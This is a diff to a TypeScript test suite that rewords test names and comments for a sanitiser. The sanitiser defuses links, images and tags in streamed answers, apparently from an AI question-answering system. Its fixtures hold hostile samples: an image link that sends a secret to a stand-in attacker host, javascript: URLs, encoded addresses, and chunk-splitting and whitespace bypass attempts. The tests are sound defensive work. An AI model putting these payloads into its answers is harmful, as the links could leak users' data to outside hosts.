@@ -18,9 +18,9 @@ function neutral(text: string): string {
 
 const W = '\u2060'
 
-describe('an answer leads nowhere', () => {
+describe('an answer cannot link to other sites', () => {
   test.each([
-    // Images and links of every form.
+    // Images and links in every form.
     ['![x](https://evil.example/?d=secret)', 'x'],
     ['[read](https://evil.example/a "title")', 'read'],
     ['[read](<https://evil.example/a b>)', 'read'],
@@ -36,11 +36,11 @@ describe('an answer leads nowhere', () => {
     ['![x](HTTPS:evil.example)', 'x'],
     ['[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) [z](data:text/html,a)', 'x y z'],
     ['[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
-    // References, which may be defined before or behind.
+    // References, which may be defined before or after their use.
     ['![x][1]\n\n[1]: https://evil.example/a', '![x][1]\n\n\\[1\\]: `https://evil.example/a`'],
     ['[1]:\n//evil.example/a', '\\[1\\]:\n`//evil.example/a`'],
     ['> [a]: /authorize', '> \\[a\\]: /authorize'],
-    // Addresses without mark-up, also by entities and escapes.
+    // Addresses without markup, including entities and escapes.
     ['see https://evil.example/a?b=c.', 'see `https://evil.example/a?b=c.`'],
     ['see www.evil.example now', 'see `www.evil.example` now'],
     ['&#104;ttps://evil.example', '`https://evil.example`'],
@@ -49,7 +49,7 @@ describe('an answer leads nowhere', () => {
     ['https&colon;//evil.example', '`https://evil.example`'],
     ['<https://evil.example>', '`https://evil.example`'],
     ['<https:evil.example>', 'https:evil.example'],
-    // Beside backticks, which belong to other code.
+    // Next to backticks that belong to other code.
     ['`a`https://evil.example', `\`a\`${W}\`https://evil.example\``],
     ['`https://evil.example', `\\\`${W}\`https://evil.example\``],
     ['https://evil.example`', '`https://evil.example`\\`'],
@@ -76,15 +76,15 @@ describe('an answer leads nowhere', () => {
     '~~~~\n<b>\n~~~\n``` x\n<i>\n~~~~~\nx < 3 <3',
     '# heading\n\n- item: yes\n\n| a | b |\n|---|---|',
     '与文件有关 [1]。',
-  ])('%j stays', (text) => {
+  ])('%j stays unchanged', (text) => {
     expect(neutral(text)).toBe(text)
   })
 })
 
-describe('whatever an answer is made of', () => {
+describe('any answer', () => {
   const markdown = new MarkdownIt({ html: true, linkify: true })
   markdown.validateLink = () => true
-  /** Targets, images and tags that a program makes of a text. */
+  /** The targets, images and tags that a Markdown program creates from a text. */
   const leadsIn = (text: string): string[] => {
     const all = markdown.parse(text, {}).flatMap((token) => [token, ...(token.children ?? [])])
     return all.flatMap((token) => {
@@ -142,11 +142,11 @@ describe('whatever an answer is made of', () => {
     '|-|\n',
   )
 
-  test('no program makes a link, an image or a tag of it', () => {
+  test('produces no links, images or tags', () => {
     const text = fc.array(piece, { maxLength: 16 }).map((pieces) => pieces.join(''))
     const found = (whole: string) =>
       leadsIn(neutral(whole)).filter((lead) => !/^#[\w-]*$/.test(lead))
-    // Names of hosts that stand alone are made links of by this program only.
+    // Only this program turns bare host names into links.
     const isAddress = (lead: string) =>
       lead !== 'http://evil.example' && !lead.startsWith('mailto:')
     fc.assert(
@@ -160,21 +160,21 @@ describe('whatever an answer is made of', () => {
 
 test.each([
   ['```\n<a>\n```\n<img>', `\`\`\`\n<a>\n\`\`\`\n<${W}img>`],
-  // To Markdown these are no blocks of code, or ones that have ended.
+  // In Markdown, these are not code blocks, or they have ended.
   ['- ```\n```\n<img>', `\`\`\`\n<${W}img>`],
   ['  ```\n```\n![x](//evil.example)', 'x'],
   ['x ```\n<img>', `<${W}img>`],
   ['``` a`b\n<img>', `<${W}img>`],
   ['~~~\n~~~\r<img>', `~~~\n~~~\r<${W}img>`],
-])('only a block of code keeps its tags: %j', (text, expected) => {
+])('only a code block keeps its tags: %j', (text, expected) => {
   expect(neutral(text)).toContain(expected)
 })
 
-test('a block of code ends what was begun before it', () => {
+test('a code block ends constructs that started before it', () => {
   expect(neutral('![x](\n```\n```\n![y](https://evil.example)')).toBe('!\\[x\\](\n```\n```\ny')
 })
 
-test('a part of an answer that ends within a line or a block of code opens none in the next part', () => {
+test('a part that ends inside a line or code block does not open a code block in the next part', () => {
   for (const first of ['abc', '```\n<a>\n']) {
     const links = new SafeLinks(NONE)
     links.push(first)
@@ -184,7 +184,7 @@ test('a part of an answer that ends within a line or a block of code opens none 
   }
 })
 
-test('what one part begins does not go on in the next', () => {
+test('a construct that starts in one part does not continue in the next', () => {
   for (const [first, second] of [
     ['[x]', '(//evil.example)'],
     ['[x](', '//evil.example)'],
@@ -198,12 +198,12 @@ test('what one part begins does not go on in the next', () => {
   }
 })
 
-describe('addresses that are known', () => {
+describe('known addresses', () => {
   const asked = 'What is on https://a.example/x_(y)? Or (see www.b.example/z).'
   const linked = new Set(addressesIn(asked))
   const allowed = { linked, shown: new Set([...linked, 'https://c.example/doc']) }
 
-  test('may be linked when the question has them', () => {
+  test('can be links if the question contains them', () => {
     const text = '[b](www.b.example/z) https://a.example/x_ www.b.example/z.'
     expect(neutraliseLinks(text, { ...allowed, shown: linked })).toBe(
       '[b](<www.b.example/z>) `https://a.example/x_` www.b.example/z.',
@@ -215,7 +215,7 @@ describe('addresses that are known', () => {
     expect(neutraliseLinks('![a](https://a.example/x)', plain)).toBe('a')
   })
 
-  test('may be shown, but not linked, when a passage has them', () => {
+  test('can be shown, but not linked, if a passage contains them', () => {
     expect(neutraliseLinks('at https://c.example/doc, they say', allowed)).toBe(
       'at https://c.example/doc, they say',
     )
@@ -226,7 +226,7 @@ describe('addresses that are known', () => {
   })
 })
 
-describe('in a text that comes in pieces', () => {
+describe('a text that arrives in pieces', () => {
   function inPieces(pieces: Iterable<string>): string {
     const links = new SafeLinks(NONE)
     let text = ''
@@ -234,7 +234,7 @@ describe('in a text that comes in pieces', () => {
     return text + links.end()
   }
 
-  test('how it is cut makes no difference', () => {
+  test('gives the same result however it is split', () => {
     const piece = fc.constantFrom(
       '![x](',
       '](',
@@ -270,14 +270,14 @@ describe('in a text that comes in pieces', () => {
     )
   })
 
-  test('blanks without end do not open a way', () => {
+  test('cannot bypass the check with many spaces', () => {
     const text = `![x](${' '.repeat(9000)}&#104;ttps://evil.example)`
     expect(inPieces(text.match(/[\s\S]{1,50}/g) ?? [])).toMatch(
       /^!\\\[x\\\]\(\s+`https:\/\/evil.example`\)$/,
     )
   })
 
-  test('an address without end is held back no longer than it could be of use', () => {
+  test('holds back an endless address only up to a limit', () => {
     const links = new SafeLinks(NONE)
     const shown = links.push(`![x](https://evil.example/${'a'.repeat(5000)}`)
     expect(shown.length).toBeGreaterThan(4000)
@@ -285,7 +285,7 @@ describe('in a text that comes in pieces', () => {
     expect(links.push('a)') + links.end()).toContain('a)')
   })
 
-  test('text is shown as soon as it can be', () => {
+  test('is shown as soon as possible', () => {
     const links = new SafeLinks(NONE)
     expect(links.push('The answer is ')).toBe('The answer is ')
     expect(links.push('答案是')).toBe('答案是')
